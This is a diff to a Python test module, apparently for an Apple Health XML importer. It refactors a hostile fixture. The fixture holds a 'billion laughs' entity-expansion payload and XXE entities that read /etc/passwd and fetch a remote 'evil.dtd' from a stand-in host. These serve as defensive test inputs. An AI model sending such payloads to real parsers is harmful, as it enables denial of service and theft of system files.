@@ -309,24 +309,17 @@ def test_zip_slip_names_are_listed_not_read(scene, name):
 
 # -- XML ---------------------------------------------------------------------------------------
 
-XML_HEAD = """<?xml version="1.0" encoding="UTF-8"?>
-<!DOCTYPE HealthData [
-<!ENTITY lol "lol">
-<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
-<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
-<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
-<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
-<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
-<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
-<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
-<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
-<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
-<!ENTITY passwd SYSTEM "file:///etc/passwd">
-<!ENTITY remote SYSTEM "http://203.0.113.1/evil.dtd">
-]>
-<HealthData locale="en_US">
- <ExportDate value="2026-03-10 09:00:00 +0100"/>
-"""
+# "billion laughs": lol9 would expand to 10^9 "lol"s (3 GB)
+LAUGHS = '<!ENTITY lol "lol">\n' + "".join(
+    '<!ENTITY lol{} "{}">\n'.format(i, f"&lol{i - 1 if i > 1 else ''};" * 10) for i in range(1, 10)
+)
+XML_HEAD = (
+    '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE HealthData [\n'
+    + LAUGHS
+    + '<!ENTITY passwd SYSTEM "file:///etc/passwd">\n'
+    + '<!ENTITY remote SYSTEM "http://203.0.113.1/evil.dtd">\n'
+    + ']>\n<HealthData locale="en_US">\n <ExportDate value="2026-03-10 09:00:00 +0100"/>\n'
+)
 RECORD = (
     ' <Record type="HKQuantityTypeIdentifierStepCount" sourceName="{name}" unit="count" '
     'creationDate="2026-03-01 09:00:00 +0100" startDate="2026-03-01 0{h}:00:00 +0100" '
